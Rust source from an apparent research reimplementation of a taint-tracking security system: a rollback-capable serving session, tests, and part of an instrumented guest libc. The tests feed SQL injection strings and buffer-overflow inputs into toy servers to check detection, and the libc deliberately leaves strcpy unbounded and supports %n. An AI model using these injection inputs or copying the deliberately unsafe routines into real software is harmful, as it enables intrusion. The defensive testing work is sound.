    /// [`ServeSession::advance`]); with `false` it behaves exactly like the
    /// one-shot serve path.
    pub fn serve_session(
        &self,
        image: &ProgramImage,
        world: World,
        injections: &[(u64, Injection)],
        yield_on_io: bool,
    ) -> ServeSession {
        let mut machine = image.spawn_injected(injections);
        if self.trace_taint {
            machine.enable_taint_observer();
        }
        if self.profile {
            machine.enable_profiler(image.func_spans());
        }
        if let Some(cfg) = self.flight {
            machine.enable_flight_recorder(cfg.cap, cfg.sample_cycles);
        }
        self.open_session(machine, world, yield_on_io)
    }

    /// Wraps a prepared machine in a [`ServeSession`].
    fn open_session(&self, mut machine: Machine, world: World, yield_on_io: bool) -> ServeSession {
        machine.arm_watchdog(self.fuel);
        let mut runtime = Runtime::new(self.config.clone(), world, self.granularity())
            .with_io(self.io)
            .with_transactions();
        if yield_on_io {
            runtime = runtime.with_io_yield();
        }
        let leg_base = machine.stats.instructions;
        ServeSession {
            machine,
            runtime,
            insn_limit: self.insn_limit,
            leg_base,
            empty_recovery_at: None,
            done: None,
        }
    }
}

/// One step of a [`ServeSession`].
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum SessionStep {
    /// The guest parked at an I/O point. `cpu` is the CPU cycles it executed
    /// and `io` the I/O wait it charged since the previous step — the
    /// execution segment an event-driven scheduler replays onto a modelled
    /// worker (run `cpu`, then sleep `io` with the worker free).
    Parked {
        /// CPU cycles executed since the previous step.
        cpu: u64,
        /// I/O wait cycles charged since the previous step.
        io: u64,
    },
    /// The session reached a terminal exit: collect it with
    /// [`ServeSession::finish`].
    Done,
}

/// A resilient serving session split at its yield points: the serve loop of
/// [`Shift::serve`] as a resumable continuation. Calling
/// [`ServeSession::advance`] runs the guest until it either parks at an I/O
/// point (yield mode only) or reaches a terminal exit; recoveries — the
/// rollback-and-redeliver resilience of the one-shot path — happen inside
/// `advance`, invisible to the caller. Thanks to the copy-on-write image
/// pages a parked session is a cheap continuation: the paper's "thousands of
/// concurrent connections" become a heap of these, scheduled by
/// [`fleet::Fleet::serve_open_loop`].
///
/// The session preserves the one-shot path's exits bit-for-bit: the
/// instruction budget spans parks (a resume continues the same budget leg
/// rather than restarting it), so a guest that would hit [`Exit::InsnLimit`]
/// straight through hits it at the same instruction when parked at every
/// I/O point.
#[derive(Clone, Debug)]
pub struct ServeSession {
    machine: Machine,
    runtime: Runtime,
    insn_limit: u64,
    /// Retired-instruction count at the start of the current budget leg
    /// (session start or last recovery): parks inside a leg share its
    /// budget, recoveries start a fresh one — exactly the one-shot loop's
    /// behaviour, where each `Machine::run` call had a fresh relative
    /// budget.
    leg_base: u64,
    /// A rollback that redelivers nothing (queue drained) re-runs the
    /// guest on bit-identical state, so a second fault at the same
    /// delivery count would recur forever: allow one attempt per
    /// delivery point, then let the fault stand.
    empty_recovery_at: Option<u64>,
    done: Option<Exit>,
}

impl ServeSession {
    /// The resilient session loop — the outermost layer of the user-level
    /// handler: it catches what the in-syscall handler cannot —
    /// NaT-consumption faults (detections raised by the machine, disposed
    /// per their L-policy's action), other architectural faults (crash
    /// containment: always rolled back), and watchdog exhaustion (runaway
    /// requests) — rolls the transaction back, and keeps serving. It
    /// returns [`SessionStep::Parked`] when the guest yields at an I/O
    /// point, and [`SessionStep::Done`] on a clean halt, the session
    /// instruction ceiling, fail-stop (`Terminate`) detections, and
    /// whenever no checkpoint is armed to recover to.
    pub fn advance(&mut self) -> SessionStep {
        if self.done.is_some() {
            return SessionStep::Done;
        }
        let cpu0 = self.machine.stats.cycles;
        let io0 = self.machine.stats.io_cycles;
        let machine = &mut self.machine;
        let runtime = &mut self.runtime;
        let exit = loop {
            let used = machine.stats.instructions - self.leg_base;
            let exit = machine.run(runtime, self.insn_limit.saturating_sub(used));
            if matches!(exit, Exit::Parked) {
                return SessionStep::Parked {
                    cpu: machine.stats.cycles - cpu0,
                    io: machine.stats.io_cycles - io0,
                };
            }
            let recoverable = match &exit {
                // Handled above: a park returns to the caller.
                Exit::Parked => unreachable!("parks return before classification"),
                // Clean finish, session ceiling, or a violation the
                // in-syscall handler already chose to fail-stop on.
                Exit::Halted(_) | Exit::InsnLimit | Exit::Violation(_) => false,
                // Runaway request: abort it.
                Exit::FuelExhausted => true,
                Exit::Fault(f) => match f {
                    // A machine-level detection: dispose per the matching
                    // low-level policy's configured action.
                    Fault::NatConsumption { kind, .. } => {
                        let p = Policy::from_fault(*kind);
                        let provenance = machine
                            .taint_observer()
                            .and_then(|o| o.fault_chain())
                            .map(str::to_string);
                        runtime.record_violation(Violation {
                            policy: p.name().to_string(),
                            message: format!("detected by hardware: {f}"),
                            ip: machine.cpu.ip,
                            provenance,
                        });
                        let action = runtime.config().action_for(p);
                        // NaT-consumption detections bypass the in-syscall
                        // disposal path, so mirror them into the flight
                        // recorder here.
                        let now = machine.stats.total_time();
                        if let Some(fr) = machine.flight_recorder_mut() {
                            fr.instant(
                                now,
                                TraceKind::Violation {
                                    policy: p.name().to_string(),
                                    action: runtime::action_name(action).to_string(),
                                },
                            );
                        }
                        // A faulting instruction cannot be stepped over, so
                        // `LogAndContinue` degrades to a rollback too.
                        action != ViolationAction::Terminate
                    }
                    // A plain crash (unmapped access, bad syscall, …):
                    // contain it and keep the server up.
                    _ => true,
                },
            };
            if recoverable && self.empty_recovery_at != Some(runtime.requests_delivered) {
                let delivered_before = runtime.requests_delivered;
                if runtime.recover(machine) {
                    if runtime.requests_delivered == delivered_before {
                        self.empty_recovery_at = Some(delivered_before);
                    }
                    self.leg_base = machine.stats.instructions;
                    continue;
                }
            }
            break exit;
        };
        self.done = Some(exit);
        SessionStep::Done
    }

    /// Drains every remaining park: advances until the session reaches its
    /// terminal exit. The one-shot serve path is exactly this.
    pub fn run_to_completion(&mut self) {
        while self.advance() != SessionStep::Done {}
    }

    /// The terminal exit, once the session is done.
    pub fn exit(&self) -> Option<&Exit> {
        self.done.as_ref()
    }

    /// The machine mid-session (diagnostics; the scheduler uses it to
    /// restamp flight-recorder tracks).
    pub fn machine_mut(&mut self) -> &mut Machine {
        &mut self.machine
    }

    /// Modelled total time (CPU + I/O) accumulated so far.
    pub fn total_time(&self) -> u64 {
        self.machine.stats.total_time()
    }

    /// Closes the session and builds its [`ServeReport`], first draining
    /// any remaining parks so the report is always terminal.
    pub fn finish(mut self) -> ServeReport {
        self.run_to_completion();
        let exit = self.done.take().expect("run_to_completion leaves a terminal exit");
        let ServeSession { mut machine, mut runtime, .. } = self;
        // Close the final request's latency window, mirroring it into the
        // flight recorder like the in-stream windows.
        let session_end = machine.stats.total_time();
        if let Some((start, latency)) = runtime.finish_request_window(session_end) {
            let index = runtime.request_latencies.len() as u64 - 1;
            if let Some(fr) = machine.flight_recorder_mut() {
                fr.span(start, start + latency, TraceKind::Request { index });
            }
        }
        let halted = matches!(exit, Exit::Halted(_));
        // A request still open at a halt completed — the guest finished it
        // and exited without asking for more work. Open at any other stop,
        // it was lost in flight.
        let served = runtime.completed_requests + u64::from(halted && runtime.open_request());
        let in_flight = u64::from(!halted && runtime.open_request());
        let dropped = in_flight + runtime.pending_requests() as u64;
        debug_assert_eq!(
            served + runtime.aborted_requests + in_flight,
            runtime.requests_delivered,
            "served/recovered/in-flight must partition delivered requests exactly"
        );
        ServeReport {
            exit,
            served,
            recovered: runtime.aborted_requests,
            dropped,
            recovery_cycles: runtime.recovery_cycles,
            violations: runtime.violations.clone(),
            stats: machine.stats.clone(),
            runtime,
            machine,
        }
    }
}

/// Outcome of a resilient [`Shift::serve`] session: the graceful-degradation
/// counters plus everything a [`RunReport`] carries.
#[derive(Clone, Debug)]
pub struct ServeReport {
    /// How the session finally ended, after all recoveries.
    pub exit: Exit,
    /// Requests delivered and completed without a rollback.
    pub served: u64,
    /// Requests rolled back (violation, fault, or watchdog) with service
    /// continuing afterwards.
    pub recovered: u64,
    /// Requests lost: in flight at an unrecoverable stop, plus any never
    /// delivered.
    pub dropped: u64,
    /// CPU cycles spent on transactions that were thrown away — the price
    /// of recovery.
    pub recovery_cycles: u64,
    /// Every violation observed across the session, in order.
    pub violations: Vec<Violation>,
    /// Cycle/instruction accounting (cloned out of the machine).
    pub stats: Stats,
    /// The runtime, with its logs, outputs, filesystem, and shadow map.
    pub runtime: Runtime,
    /// The machine in its final state.
    pub machine: Machine,
}

impl ServeReport {
    /// `true` when every queued request was either served or recovered —
    /// nothing was silently lost.
    pub fn nothing_dropped(&self) -> bool {
        self.dropped == 0
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_ir::{ProgramBuilder, Rhs};
    use shift_isa::{sys, CmpRel};

    fn byte_shift() -> Shift {
        Shift::new(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)))
    }

    /// Echo server: read network input, copy it with strcpy into a large
    /// enough buffer, write it back out. Benign.
    fn echo_app() -> shift_ir::Program {
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let req = f.local(256);
            let reqp = f.local_addr(req);
            let copy = f.local(256);
            let copyp = f.local_addr(copy);
            let cap = f.iconst(255);
            let n = f.syscall(sys::NET_READ, &[reqp, cap]);
            let end = f.add(reqp, n);
            let z = f.iconst(0);
            f.store1(z, end, 0);
            f.call_void("strcpy", &[copyp, reqp]);
            let len = f.call("strlen", &[copyp]);
            f.syscall_void(sys::NET_WRITE, &[copyp, len]);
            let zero = f.iconst(0);
            f.ret(Some(zero));
        });
        pb.build().unwrap()
    }

    #[test]
    fn echo_round_trip_with_taint_tracking() {
        let report =
            byte_shift().run(&echo_app(), World::new().net(&b"hello over the wire"[..])).unwrap();
        assert!(report.exit.is_clean(), "{:?}", report.exit);
        assert_eq!(report.runtime.net_output, b"hello over the wire");
        assert_eq!(report.detected_policy(), None);
    }

    #[test]
    fn taint_flows_through_strcpy_into_the_copy() {
        // After the run, the *copy* buffer (written only by instrumented
        // guest code, never by the runtime) must be tainted in the guest
        // bitmap, and must agree with ground truth... which requires the
        // shadow to have been propagated. The host shadow only knows source
        // writes, so here we check the guest bitmap directly via the
        // violation-free sink path: sending tainted bytes to sql_exec with a
        // quote must trip H3 *after the copy*.
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let req = f.local(128);
            let reqp = f.local_addr(req);
            let copy = f.local(128);
            let copyp = f.local_addr(copy);
            let cap = f.iconst(127);
            let n = f.syscall(sys::NET_READ, &[reqp, cap]);
            let end = f.add(reqp, n);
            let z = f.iconst(0);
            f.store1(z, end, 0);
            f.call_void("strcpy", &[copyp, reqp]);
            let len = f.call("strlen", &[copyp]);
            f.syscall_void(sys::SQL_EXEC, &[copyp, len]);
            let zero = f.iconst(0);
            f.ret(Some(zero));
        });
        let app = pb.build().unwrap();
        let report = byte_shift().run(&app, World::new().net(&b"x' OR '1'='1"[..])).unwrap();
        assert_eq!(report.detected_policy(), Some(Policy::H3), "{:?}", report.exit);
    }

    #[test]
    fn same_attack_succeeds_without_shift() {
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let req = f.local(128);
            let reqp = f.local_addr(req);
            let cap = f.iconst(127);
            let n = f.syscall(sys::NET_READ, &[reqp, cap]);
            f.syscall_void(sys::SQL_EXEC, &[reqp, n]);
            let zero = f.iconst(0);
            f.ret(Some(zero));
        });
        let app = pb.build().unwrap();
        let shift = Shift::new(Mode::Uninstrumented);
        let report = shift.run(&app, World::new().net(&b"x' OR '1'='1"[..])).unwrap();
        assert!(report.exit.is_clean());
        assert_eq!(report.runtime.sql_log.len(), 1, "the injection executed unnoticed");
    }

    #[test]
    fn overflow_into_function_pointer_trips_l3() {
        // Figure-1-shaped: strcpy past a small buffer into an adjacent
        // function pointer; calling through it moves tainted data into a
        // branch register.
        let mut pb = ProgramBuilder::new();
        pb.func("helper", 0, |f| f.ret(None));
        pb.func("main", 0, |f| {
            let small = f.local(16);
            let fnptr = f.local(8);
            let req = f.local(128);
            let reqp = f.local_addr(req);
            // Initialize the "GOT entry" with a legitimate value.
            let fpp = f.local_addr(fnptr);
            let legit = f.iconst(7);
            f.store8(legit, fpp, 0);
            let cap = f.iconst(127);
            let n = f.syscall(sys::NET_READ, &[reqp, cap]);
            let end = f.add(reqp, n);
            let z = f.iconst(0);
            f.store1(z, end, 0);
            let smallp = f.local_addr(small);
            f.call_void("strcpy", &[smallp, reqp]); // may overflow into fnptr
                                                    // Use the pointer as a load address (tainted ⇒ L1 fault).
            let v = f.load8(fpp, 0);
            let t = f.load1(v, 0);
            let folded = f.andi(t, 0);
            f.ret(Some(folded));
        });
        let app = pb.build().unwrap();

        // Benign input fits: no alarm, pointer untouched.
        let benign = byte_shift()
            .run(&app, World::new().net(&b"short"[..]).file("x", vec![7u8; 8]))
            .unwrap();
        assert!(!benign.exit.is_detection(), "false positive: {:?}", benign.exit);

        // 40 tainted bytes smash through the 16-byte buffer into fnptr.
        let atk = byte_shift().run(&app, World::new().net(vec![b'A'; 40])).unwrap();
        assert!(atk.exit.is_detection(), "{:?}", atk.exit);
        assert_eq!(atk.detected_policy(), Some(Policy::L1));
    }

    #[test]
    fn word_level_tracking_also_detects() {
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let req = f.local(64);
            let reqp = f.local_addr(req);
            let cap = f.iconst(63);
            let n = f.syscall(sys::NET_READ, &[reqp, cap]);
            f.syscall_void(sys::SQL_EXEC, &[reqp, n]);
            let zero = f.iconst(0);
            f.ret(Some(zero));
        });
        let app = pb.build().unwrap();
        let shift = Shift::new(Mode::Shift(ShiftOptions::baseline(Granularity::Word)));
        let report = shift.run(&app, World::new().net(&b"';--"[..])).unwrap();
        assert_eq!(report.detected_policy(), Some(Policy::H3));
    }

    #[test]
    fn benign_workload_has_no_false_positives_across_modes() {
        // Compute over tainted input without illegal uses: checksum bytes,
        // with a sanitized table lookup.
        let mut pb = ProgramBuilder::new();
        let table = pb.global("tbl", 256, (0u8..=255).collect());
        pb.func("main", 0, move |f| {
            let req = f.local(64);
            let reqp = f.local_addr(req);
            let cap = f.iconst(64);
            let n = f.syscall(sys::NET_READ, &[reqp, cap]);
            let tbl = f.global_addr(table);
            let sum = f.iconst(0);
            f.for_up(Rhs::Imm(0), Rhs::Reg(n), |f, i| {
                let p = f.add(reqp, i);
                let c = f.load1(p, 0);
                // Bounds-checked table index (the §3.3.2 pattern).
                let masked = f.andi(c, 0xff);
                let idx = f.sanitize(masked);
                let tp = f.add(tbl, idx);
                let tv = f.load1(tp, 0);
                let s = f.add(sum, tv);
                f.assign(sum, s);
            });
            f.if_cmp(CmpRel::Ne, sum, Rhs::Imm(0), |f| {
                let ok = f.iconst(0);
                f.ret(Some(ok));
            });
            let z = f.iconst(0);
            f.ret(Some(z));
        });
        let app = pb.build().unwrap();
        for mode in [
            Mode::Uninstrumented,
            Mode::Shift(ShiftOptions::baseline(Granularity::Byte)),
            Mode::Shift(ShiftOptions::baseline(Granularity::Word)),
            Mode::Shift(ShiftOptions::enhanced(Granularity::Byte)),
        ] {
            let report =
                Shift::new(mode).run(&app, World::new().net(&b"payload bytes"[..])).unwrap();
            assert!(report.exit.is_clean(), "{mode:?}: {:?}", report.exit);
        }
    }

    /// SQL server: read requests in a loop, execute each as a query, count
    /// the ones the sink accepted.
    fn sql_server_app() -> shift_ir::Program {
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let req = f.local(256);
            let reqp = f.local_addr(req);
            let served = f.iconst(0);
            f.loop_(|f| {
                let cap = f.iconst(255);
                let n = f.syscall(sys::NET_READ, &[reqp, cap]);
                f.if_cmp(CmpRel::Le, n, Rhs::Imm(0), |f| f.break_());
                let r = f.syscall(sys::SQL_EXEC, &[reqp, n]);
                f.if_cmp(CmpRel::Lt, r, Rhs::Imm(0), |f| f.continue_());
                let s1 = f.addi(served, 1);
                f.assign(served, s1);
            });
            f.ret(Some(served));
        });
        pb.build().unwrap()
    }

    fn sql_stream() -> World {
        World::new()
            .net(&b"SELECT a FROM t"[..])
            .net(&b"x' OR '1'='1"[..])
            .net(&b"SELECT b FROM t"[..])
    }

    #[test]
    fn serve_terminate_fail_stops_mid_stream() {
        // Default actions: the exploit kills the session, dropping requests.
        let report = byte_shift().serve(&sql_server_app(), sql_stream()).unwrap();
        assert!(matches!(report.exit, Exit::Violation(_)), "{:?}", report.exit);
        assert_eq!(report.served, 1);
        assert_eq!(report.recovered, 0);
        assert!(report.dropped >= 1, "the in-flight exploit request is lost");
    }

    #[test]
    fn serve_abort_transaction_rolls_back_and_keeps_serving() {
        let mut cfg = TaintConfig::default_secure();
        cfg.set_action(Policy::H3, ViolationAction::AbortTransaction);
        let report = byte_shift().with_config(cfg).serve(&sql_server_app(), sql_stream()).unwrap();
        // Both benign queries executed; the injection was detected, logged,
        // and its transaction rolled back.
        assert_eq!(report.exit, Exit::Halted(2), "{:?}", report.exit);
        assert_eq!(report.served, 2);
        assert_eq!(report.recovered, 1);
        assert!(report.nothing_dropped());
        assert_eq!(report.violations.len(), 1);
        assert_eq!(report.violations[0].policy, "H3");
        assert_eq!(report.runtime.sql_log.len(), 2, "the injection never executed");
        assert!(report.recovery_cycles > 0);
    }

    #[test]
    fn serve_log_and_continue_suppresses_the_sink_only() {
        let mut cfg = TaintConfig::default_secure();
        cfg.set_action(Policy::H3, ViolationAction::LogAndContinue);
        let report = byte_shift().with_config(cfg).serve(&sql_server_app(), sql_stream()).unwrap();
        // The guest saw `-1` from the refused sink and moved on: no rollback.
        assert_eq!(report.exit, Exit::Halted(2), "{:?}", report.exit);
        assert_eq!(report.served, 3, "all requests completed, one degraded");
        assert_eq!(report.recovered, 0);
        assert_eq!(report.runtime.suppressed_sinks, 1);
        assert_eq!(report.violations.len(), 1);
        assert_eq!(report.runtime.sql_log.len(), 2);
    }

    /// Server whose `!`-prefixed requests dereference attacker-controlled
    /// bytes as a pointer: a low-level (L1) detection, raised by the machine
    /// as a NaT-consumption fault rather than by a sink.
    fn pointer_server_app() -> shift_ir::Program {
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let req = f.local(64);
            let reqp = f.local_addr(req);
            let served = f.iconst(0);
            f.loop_(|f| {
                let cap = f.iconst(63);
                let n = f.syscall(sys::NET_READ, &[reqp, cap]);
                f.if_cmp(CmpRel::Le, n, Rhs::Imm(0), |f| f.break_());
                let c = f.load1(reqp, 0);
                f.if_cmp(CmpRel::Eq, c, Rhs::Imm(b'!' as i64), |f| {
                    let p = f.load8(reqp, 8);
                    let v = f.load1(p, 0); // tainted address ⇒ L1
                    f.assign(served, v);
                });
                let s1 = f.addi(served, 1);
                f.assign(served, s1);
            });
            f.ret(Some(served));
        });
        pb.build().unwrap()
    }

    #[test]
    fn serve_recovers_from_nat_consumption_faults() {
        let mut cfg = TaintConfig::default_secure();
        cfg.set_default_action(ViolationAction::AbortTransaction);
        let world = World::new()
            .net(&b"plain request"[..])
            .net(b"!AAAAAAA\x10\x20\x30\x40\x50\x60\x70\x80".to_vec())
            .net(&b"another plain one"[..]);
        let report = byte_shift().with_config(cfg).serve(&pointer_server_app(), world).unwrap();
        assert_eq!(report.exit, Exit::Halted(2), "{:?}", report.exit);
        assert_eq!(report.served, 2);
        assert_eq!(report.recovered, 1);
        assert!(report.nothing_dropped());
        assert_eq!(report.violations.len(), 1);
        assert_eq!(report.violations[0].policy, "L1");
    }

    #[test]
    fn serve_watchdog_aborts_runaway_requests() {
        // `@`-prefixed requests wedge the server in an infinite loop; the
        // per-transaction fuel budget converts that into a rollback.
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let req = f.local(64);
            let reqp = f.local_addr(req);
            let served = f.iconst(0);
            let sink = f.iconst(0);
            f.loop_(|f| {
                let cap = f.iconst(63);
                let n = f.syscall(sys::NET_READ, &[reqp, cap]);
                f.if_cmp(CmpRel::Le, n, Rhs::Imm(0), |f| f.break_());
                let c = f.load1(reqp, 0);
                f.if_cmp(CmpRel::Eq, c, Rhs::Imm(b'@' as i64), |f| {
                    f.loop_(|f| {
                        let s = f.addi(sink, 1);
                        f.assign(sink, s);
                    });
                });
                let s1 = f.addi(served, 1);
                f.assign(served, s1);
            });
            f.ret(Some(served));
        });
        let app = pb.build().unwrap();
        let world = World::new().net(&b"ok one"[..]).net(&b"@wedge"[..]).net(&b"ok two"[..]);
        let report = byte_shift().with_fuel(100_000).serve(&app, world).unwrap();
        assert_eq!(report.exit, Exit::Halted(2), "{:?}", report.exit);
        assert_eq!(report.served, 2);
        assert_eq!(report.recovered, 1);
        assert!(report.nothing_dropped());
    }

    #[test]
    fn serve_clean_stream_matches_plain_run() {
        // With no attacks, the resilient loop must be an exact no-op wrapper.
        let world = World::new().net(&b"SELECT a FROM t"[..]).net(&b"SELECT b"[..]);
        let report = byte_shift().serve(&sql_server_app(), world).unwrap();
        assert_eq!(report.exit, Exit::Halted(2));
        assert_eq!(report.served, 2);
        assert_eq!(report.recovered, 0);
        assert!(report.nothing_dropped());
        assert!(report.violations.is_empty());
        assert_eq!(report.recovery_cycles, 0);
    }

    #[test]
    fn parsed_config_drives_the_session() {
        let cfg = TaintConfig::parse("source network off\npolicy H3 on\n").unwrap();
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let req = f.local(64);
            let reqp = f.local_addr(req);
            let cap = f.iconst(63);
            let n = f.syscall(sys::NET_READ, &[reqp, cap]);
            f.syscall_void(sys::SQL_EXEC, &[reqp, n]);
            let z = f.iconst(0);
            f.ret(Some(z));
        });
        let app = pb.build().unwrap();
        // Network is not a source: the injection goes unnoticed.
        let report =
            byte_shift().with_config(cfg).run(&app, World::new().net(&b"';--"[..])).unwrap();
        assert!(report.exit.is_clean());
    }
}
