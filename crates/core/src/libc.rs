//! The guest C library, written in IR and instrumented like user code.
//!
//! The paper instruments glibc with the same GCC pass as applications
//! (Table 3's first row measures its code-size expansion) and summarizes a
//! handful of assembly routines with *wrap functions*. Here the whole
//! library is IR — byte loops, no assembly — so every `strcpy` executes real
//! instrumented loads and stores in guest memory. That is what makes the
//! attack corpus honest: a `strcpy` overflow really does smear tainted bytes
//! across an adjacent stack buffer, tag by tag.
//!
//! Provided routines: `strlen`, `strcpy`, `strncpy`, `strcat`, `strncat`,
//! `strcmp`, `strncmp`, `strcasecmp`, `strchr`, `strrchr`, `strstr`,
//! `memcpy`, `memmove`, `memset`, `memcmp`, `atoi`, `utoa`, `utox`, and
//! `vformat` — a miniature
//! `vsprintf` with `%s %d %x %c %% %n` whose `%n` is the classic
//! format-string write primitive (the Bftpd attack's vehicle).

use shift_ir::{FnBuilder, Program, ProgramBuilder, Rhs, VReg};
use shift_isa::CmpRel;

/// Names of the functions [`libc_program`] defines, for Table 3's
/// glibc-vs-application code-size split.
pub const LIBC_FUNCS: &[&str] = &[
    "strlen",
    "strcpy",
    "strncpy",
    "strcat",
    "strcmp",
    "strncmp",
    "strcasecmp",
    "strchr",
    "strstr",
    "memcpy",
    "memset",
    "memcmp",
    "atoi",
    "utoa",
    "utox",
    "vformat",
    "memmove",
    "strncat",
    "strrchr",
    "__udiv",
];

/// Emits `fresh = tolower(c)` branch-free: `c + 32·(c in 'A'..='Z')`.
fn lower(f: &mut FnBuilder, c: VReg) -> VReg {
    let ge = f.set_cmp(CmpRel::Ge, c, Rhs::Imm('A' as i64));
    let le = f.set_cmp(CmpRel::Le, c, Rhs::Imm('Z' as i64));
    let both = f.and(ge, le);
    let delta = f.muli(both, 32);
    f.add(c, delta)
}

/// Builds the guest libc as a standalone (main-less) program, ready to be
/// linked into an application with [`shift_ir::Program::link`].
pub fn libc_program() -> Program {
    let mut pb = ProgramBuilder::new();

    // ---- strlen(s) -> n ---------------------------------------------------
    pb.func("strlen", 1, |f| {
        let s = f.param(0);
        let n = f.iconst(0);
        f.loop_(|f| {
            let p = f.add(s, n);
            let c = f.load1(p, 0);
            f.if_cmp(CmpRel::Eq, c, Rhs::Imm(0), |f| f.break_());
            let n1 = f.addi(n, 1);
            f.assign(n, n1);
        });
        f.ret(Some(n));
    });

    // ---- strcpy(dst, src) -> dst  (no bounds check — by design) -----------
    pb.func("strcpy", 2, |f| {
        let dst = f.param(0);
        let src = f.param(1);
        let i = f.iconst(0);
        f.loop_(|f| {
            let sp = f.add(src, i);
            let c = f.load1(sp, 0);
            let dp = f.add(dst, i);
            f.store1(c, dp, 0);
            f.if_cmp(CmpRel::Eq, c, Rhs::Imm(0), |f| f.break_());
            let i1 = f.addi(i, 1);
            f.assign(i, i1);
        });
        f.ret(Some(dst));
    });

    // ---- strncpy(dst, src, n) -> dst ---------------------------------------
    pb.func("strncpy", 3, |f| {
        let dst = f.param(0);
        let src = f.param(1);
        let n = f.param(2);
        let done = f.iconst(0); // set once the source NUL has been copied
        f.for_up(Rhs::Imm(0), Rhs::Reg(n), |f, i| {
            let dp = f.add(dst, i);
            f.if_else_cmp(
                CmpRel::Ne,
                done,
                Rhs::Imm(0),
                |f| {
                    let z = f.iconst(0);
                    f.store1(z, dp, 0);
                },
                |f| {
                    let sp = f.add(src, i);
                    let c = f.load1(sp, 0);
                    f.store1(c, dp, 0);
                    f.if_cmp(CmpRel::Eq, c, Rhs::Imm(0), |f| f.assign_imm(done, 1));
                },
            );
        });
        f.ret(Some(dst));
    });

    // ---- strcat(dst, src) -> dst -------------------------------------------
    pb.func("strcat", 2, |f| {
        let dst = f.param(0);
        let src = f.param(1);
        let n = f.call("strlen", &[dst]);
        let tail = f.add(dst, n);
        f.call_void("strcpy", &[tail, src]);
        f.ret(Some(dst));
    });

    // ---- strcmp(a, b) -> -1/0/1 --------------------------------------------
    pb.func("strcmp", 2, |f| {
        let a = f.param(0);
        let b = f.param(1);
        let i = f.iconst(0);
        let out = f.iconst(0);
        f.loop_(|f| {
            let pa = f.add(a, i);
            let ca = f.load1(pa, 0);
            let pb_ = f.add(b, i);
            let cb = f.load1(pb_, 0);
            f.if_cmp(CmpRel::Lt, ca, Rhs::Reg(cb), |f| {
                f.assign_imm(out, -1);
                f.break_();
            });
            f.if_cmp(CmpRel::Gt, ca, Rhs::Reg(cb), |f| {
                f.assign_imm(out, 1);
                f.break_();
            });
            f.if_cmp(CmpRel::Eq, ca, Rhs::Imm(0), |f| f.break_());
            let i1 = f.addi(i, 1);
            f.assign(i, i1);
        });
        f.ret(Some(out));
    });

    // ---- strncmp(a, b, n) -> -1/0/1 ------------------------------------------
    pb.func("strncmp", 3, |f| {
        let a = f.param(0);
        let b = f.param(1);
        let n = f.param(2);
        let i = f.iconst(0);
        let out = f.iconst(0);
        f.while_cmp(
            |f| (CmpRel::Lt, f.use_of(i), Rhs::Reg(n)),
            |f| {
                let pa = f.add(a, i);
                let ca = f.load1(pa, 0);
                let pb_ = f.add(b, i);
                let cb = f.load1(pb_, 0);
                f.if_cmp(CmpRel::Lt, ca, Rhs::Reg(cb), |f| {
                    f.assign_imm(out, -1);
                    f.break_();
                });
                f.if_cmp(CmpRel::Gt, ca, Rhs::Reg(cb), |f| {
                    f.assign_imm(out, 1);
                    f.break_();
                });
                f.if_cmp(CmpRel::Eq, ca, Rhs::Imm(0), |f| f.break_());
                let i1 = f.addi(i, 1);
                f.assign(i, i1);
            },
        );
        f.ret(Some(out));
    });

    // ---- strcasecmp(a, b) -> -1/0/1 ------------------------------------------
    pb.func("strcasecmp", 2, |f| {
        let a = f.param(0);
        let b = f.param(1);
        let i = f.iconst(0);
        let out = f.iconst(0);
        f.loop_(|f| {
            let pa = f.add(a, i);
            let ca_raw = f.load1(pa, 0);
            let ca = lower(f, ca_raw);
            let pb_ = f.add(b, i);
            let cb_raw = f.load1(pb_, 0);
            let cb = lower(f, cb_raw);
            f.if_cmp(CmpRel::Lt, ca, Rhs::Reg(cb), |f| {
                f.assign_imm(out, -1);
                f.break_();
            });
            f.if_cmp(CmpRel::Gt, ca, Rhs::Reg(cb), |f| {
                f.assign_imm(out, 1);
                f.break_();
            });
            f.if_cmp(CmpRel::Eq, ca, Rhs::Imm(0), |f| f.break_());
            let i1 = f.addi(i, 1);
            f.assign(i, i1);
        });
        f.ret(Some(out));
    });

    // ---- strchr(s, c) -> ptr | 0 ---------------------------------------------
    pb.func("strchr", 2, |f| {
        let s = f.param(0);
        let c = f.param(1);
        let p = f.fresh();
        f.assign(p, s);
        let out = f.iconst(0);
        f.loop_(|f| {
            let ch = f.load1(p, 0);
            f.if_cmp(CmpRel::Eq, ch, Rhs::Reg(c), |f| {
                f.assign(out, p);
                f.break_();
            });
            f.if_cmp(CmpRel::Eq, ch, Rhs::Imm(0), |f| f.break_());
            let p1 = f.addi(p, 1);
            f.assign(p, p1);
        });
        f.ret(Some(out));
    });

    // ---- strstr(hay, needle) -> ptr | 0 ----------------------------------------
    pb.func("strstr", 2, |f| {
        let hay = f.param(0);
        let needle = f.param(1);
        let nlen = f.call("strlen", &[needle]);
        let out = f.iconst(0);
        f.if_cmp(CmpRel::Eq, nlen, Rhs::Imm(0), |f| {
            f.ret(Some(hay));
        });
        let p = f.fresh();
        f.assign(p, hay);
        f.loop_(|f| {
            let ch = f.load1(p, 0);
            f.if_cmp(CmpRel::Eq, ch, Rhs::Imm(0), |f| f.break_());
            let r = f.call("strncmp", &[p, needle, nlen]);
            f.if_cmp(CmpRel::Eq, r, Rhs::Imm(0), |f| {
                f.assign(out, p);
                f.break_();
            });
            let p1 = f.addi(p, 1);
            f.assign(p, p1);
        });
        f.ret(Some(out));
    });

    // ---- memcpy(dst, src, n) -> dst ---------------------------------------------
    pb.func("memcpy", 3, |f| {
        let dst = f.param(0);
        let src = f.param(1);
        let n = f.param(2);
        f.for_up(Rhs::Imm(0), Rhs::Reg(n), |f, i| {
            let sp = f.add(src, i);
            let c = f.load1(sp, 0);
            let dp = f.add(dst, i);
            f.store1(c, dp, 0);
        });
        f.ret(Some(dst));
    });

    // ---- memset(dst, c, n) -> dst --------------------------------------------------
